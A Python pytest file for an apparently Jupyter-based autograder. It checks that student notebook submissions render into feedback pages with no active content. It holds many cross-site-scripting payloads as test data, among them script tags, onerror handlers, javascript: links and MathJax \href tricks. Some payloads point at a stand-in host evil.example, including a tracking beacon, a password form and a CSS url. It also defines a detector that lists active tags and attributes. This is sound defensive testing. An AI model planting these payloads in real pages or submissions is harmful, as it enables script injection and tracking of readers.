"""Whatever students write, the pages that others open show it and run none of it."""

import base64
import copy
import html
from html.parser import HTMLParser

import nbformat
import pytest
from nbconvert.filters import markdown2html
from nbformat.v4 import (
    new_code_cell,
    new_markdown_cell,
    new_notebook,
    new_output,
    new_raw_cell,
)
from nbgrader.utils import compute_checksum

from autograder import course
from autograder.authoring import build
from autograder.course import nbgrader
from autograder.intake import sanitize
from autograder.intake.sanitize import clean_output, inert, is_picture
from autograder.text import plain, spreadsheet_safe
from tests.autograder.conftest import RIGHT, START_HERE

PNG = base64.b64decode(
    "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
)
ACTIVE_TAGS = {
    "script", "iframe", "frame", "object", "embed", "applet", "form", "input", "button", "base",
    "link", "meta", "svg", "math", "video", "audio", "source", "template", "style",
}  # fmt: skip


class Active(HTMLParser):
    """Collects what acts when a page is opened or clicked: tags, handlers, addresses."""

    def __init__(self, page):
        super().__init__()
        self.found = []
        self.feed(page)

    def handle_starttag(self, tag, attrs):
        if tag in ACTIVE_TAGS:
            self.found.append(tag)
        for name, value in attrs:
            address = "".join((value or "").split()).lower()
            if name.startswith("on") or name in ("srcdoc", "formaction", "ping", "background"):
                self.found.append(name)
            elif address.startswith(("javascript:", "vbscript:", "data:text", "file:")):
                self.found.append(address[:20])
            elif name in ("src", "srcset", "poster", "data") and "//" in address[:10]:
                self.found.append(address[:40])

    handle_startendtag = handle_starttag


HOSTILE_MARKDOWN = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=password></form>",
    "<style>* { background: url(//evil.example) }</style>",
    "<details open ontoggle=alert(1)>",
    "![beacon](http://evil.example/beacon.png)",
    "![beacon][there]\n\n[there]: http://evil.example/beacon.png",
    "[click](javascript:alert(1))",
    "[click](java&#115;cript:alert(1))",
    "[click]( <javascript:alert(1)> )",
    "[click]\n\n[click]: javascript:alert(1)",
    "<javascript:alert(1)>",
    "```html\n<img src=x onerror=alert(1)>\n```\n<img src=x onerror=alert(1)>",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "# <img src=x onerror=alert(1)>",
    "<!-- --><script>alert(1)</script>",
]
# Harmless by itself with today's renderer, and it must stay so once control characters are gone.
SUBTLE_MARKDOWN = [
    "<svg/onload=alert(1)>",
    "[a\\](javascript:alert(1))",
    "<\u200bimg src=x onerror=alert(1)>",
    "<\x00img src=x onerror=alert(1)>",
    "$<img src=x onerror=alert(1)>$",
    "$$\\begin{x}<img src=x onerror=alert(1)>\\end{x}$$",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "<![CDATA[<script>alert(1)</script>]]>",
]


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN)
def test_the_detector_of_active_parts_finds_them_where_nothing_is_cleaned(text):
    assert Active(markdown2html(text)).found


@pytest.mark.parametrize("text", HOSTILE_MARKDOWN + SUBTLE_MARKDOWN)
def test_markdown_renders_to_nothing_active(text):
    assert Active(markdown2html(inert(text))).found == []


def test_the_courses_own_hints_still_fold_away(tmp_path, monkeypatch):
    name = "08_your_variant"
    instructor = build.instructor_notebook(course.SOURCES / f"{name}.py")
    (tmp_path / "source" / name).mkdir(parents=True)
    (tmp_path / "source" / name / f"{name}.ipynb").write_bytes(build.as_bytes(instructor))
    monkeypatch.chdir(tmp_path)
    student = build.student_notebook(instructor)
    student.cells.append(new_markdown_cell("<details>mine</details>"))
    before = [cell.source for cell in student.cells]
    names = {"assignment": name, "notebook": name, "student": "ada"}
    sanitize.CleanMarkdown().preprocess(student, {"nbgrader": names})
    assert "<details>" in "".join(before[:-1])
    assert [cell.source for cell in student.cells][:-1] == before[:-1]
    assert "<details>" not in student.cells[-1].source


def test_the_stub_of_an_answer_keeps_its_checksum_and_so_counts_as_no_answer():
    stub = new_markdown_cell("See [the log](log.txt): *your answer here.*")
    stub.metadata["nbgrader"] = {"grade_id": "a", "grade": True, "solution": True, "points": 1}
    stub.metadata["nbgrader"]["checksum"] = compute_checksum(stub)
    answered = copy.deepcopy(stub)
    answered.id = "answered"
    answered.source += " [click](javascript:alert(1))"
    names = {"assignment": "none", "notebook": "none", "student": "ada"}
    student = new_notebook(cells=[stub, answered])
    sanitize.CleanMarkdown().preprocess(student, {"nbgrader": names})
    assert compute_checksum(stub) == stub.metadata["nbgrader"]["checksum"]
    assert "](" not in answered.source


def test_markdown_keeps_its_words_formulas_lists_and_tables():
    text = "## Why\n\n- **loss** falls: $a_1 < b$\n- `x[0]`\n\n| a |\n|---|\n| 1 |\n"
    assert inert(text) == text


@pytest.mark.parametrize(
    "formula",
    [
        "$\\href{javascript:alert(1)}{x}$",
        "$\\require{html}\\cssId{x}{y}$",
        "&#36;&#92;href{javascript:alert(1)}{x}&#36;",
        "$\\h\u200bref{javascript:alert(1)}{x}$",
        "$\\bbox[background:url(//evil.example)]{x}$",
    ],
)
def test_a_formula_makes_no_link(formula):
    read = html.unescape(markdown2html(inert(formula)))
    assert not any(macro in read for macro in ("\\href", "\\require", "\\cssId", "\\bbox"))


@pytest.mark.parametrize(
    "mime",
    [
        "text/html",
        "image/svg+xml",
        "application/javascript",
        "text/markdown",
        "text/latex",
        "application/vnd.jupyter.widget-view+json",
        "application/pdf",
        "<script>alert(1)</script>",
    ],
)
def test_an_active_output_is_left_out_and_named(mime):
    cleaned = clean_output(new_output("display_data", {mime: "<script>alert(1)</script>"}))
    assert set(cleaned.data) == {"text/plain"}
    assert mime[:40] in cleaned.data["text/plain"]


def test_text_and_pictures_stay():
    data = {"image/png": base64.b64encode(PNG).decode(), "text/plain": "<Figure>"}
    assert clean_output(new_output("display_data", data)).data == data


@pytest.mark.parametrize(
    "encoded",
    [
        "x' onerror='alert(1)",
        base64.b64encode(b"<svg onload=alert(1)>").decode(),
        base64.b64encode(PNG[:10]).decode(),
        base64.b64encode(PNG[:16] + (100_000).to_bytes(4, "big") + PNG[20:]).decode(),
        "A" * 8_000_000,
        ["A"],
        None,
    ],
)
def test_what_only_says_that_it_is_a_picture_is_dropped(encoded):
    assert not is_picture("image/png", encoded)


def test_a_picture_carries_no_metadata_that_becomes_an_attribute():
    output = new_output("display_data", {"image/png": base64.b64encode(PNG).decode()})
    output.metadata = {"image/png": {"width": "1' onload='alert(1)"}}
    assert clean_output(output).metadata == {}


def test_terminal_commands_and_direction_marks_are_removed():
    text = "\x1b[31mred\x1b[0m \x1b]8;;http://evil.example\x07link\x1b]8;;\x07 a\u202eb\x08\x9b2J"
    assert plain(text) == "red link ab"


def test_an_output_of_an_unknown_kind_is_dropped():
    assert clean_output(nbformat.from_dict({"output_type": "update", "data": {}})) is None


@pytest.mark.parametrize("text", ["=1+1", "+1", "-1", "@SUM(A1)", "\t=1", " =1"])
def test_no_table_cell_is_a_formula(text):
    assert spreadsheet_safe(text) == f"'{text}"
    assert spreadsheet_safe("ada") == "ada"


OUTPUTS = """
from IPython.display import HTML, Javascript, SVG, Markdown, Latex, display
bad = "<img src='http://evil.example/x.png' onerror='alert(1)'><script>alert(1)</script>"
display(HTML(bad), Markdown(bad), Latex(bad), Javascript("alert(1)"))
display({"image/svg+xml": "<svg onload='alert(1)'/>", "text/html": bad}, raw=True)
display({"image/png": "x' onerror='alert(1)"}, raw=True, metadata={"image/png": {"width": bad}})
print(bad)
print("\\x1b[31m" + bad)
"""
RAISES = """
class Evil(Exception):
    pass
Evil.__name__ = "<script>alert(1)</script>"
def channel_means(images):
    raise Evil("<script>alert(1)</script>$\\\\href{javascript:alert(1)}{x}$")
raise Evil("<img src=x onerror=alert(1)>")
"""


def hostile(start_here):
    student = start_here(RAISES)
    student.cells[0].source = HOSTILE_MARKDOWN[0]
    student.cells += [new_markdown_cell(text) for text in HOSTILE_MARKDOWN + SUBTLE_MARKDOWN]
    student.cells += [new_raw_cell(HOSTILE_MARKDOWN[1]), new_code_cell(OUTPUTS)]
    student.cells.append(new_code_cell("1 # </pre><script>alert(1)</script>"))
    student.metadata["title"] = HOSTILE_MARKDOWN[0]
    return student


@pytest.fixture(scope="module")
def graded(new_class):
    """A hostile and an honest submission, graded, with feedback."""
    from autograder.authoring.rehearse import notebook

    def start_here(solution):
        return notebook(START_HERE, {"channel_means_solution": solution})

    graded = new_class()
    graded.submit("honest", start_here(RIGHT))
    graded.submit("hostile", hostile(start_here))
    assert graded.autograde() == 0, graded.log
    process = nbgrader("generate_feedback", START_HERE, course=graded.course)
    assert process.returncode == 0, process.stderr
    return graded


@pytest.mark.ci
def test_a_hostile_page_holds_nothing_active_that_an_honest_one_does_not(graded):
    assert Active(graded.feedback("hostile")).found == Active(graded.feedback("honest")).found


@pytest.mark.ci
def test_the_verdicts_table_survives_and_code_is_shown_as_text(graded):
    page = graded.feedback("honest")
    assert "<table>" in page
    assert "Each image has its own mean" in page
    assert "&lt;script&gt;" in graded.feedback("hostile")


@pytest.mark.ci
def test_formgraders_source_holds_nothing_active_either(graded):
    path = graded.course / "autograded/hostile" / START_HERE / f"{START_HERE}.ipynb"
    notebook = nbformat.read(path, as_version=4)
    own = sanitize.own_texts(graded.course / "source" / START_HERE / f"{START_HERE}.ipynb")
    for cell in notebook.cells:
        if cell.cell_type == "markdown" and cell.source not in own:
            assert Active(markdown2html(cell.source)).found == []
        assert cell.cell_type != "raw"
        for output in cell.get("outputs", []):
            assert set(output.get("data", {})) <= {"text/plain", "text/html", "image/png"}
            assert Active(output.get("data", {}).get("text/html", "")).found == []
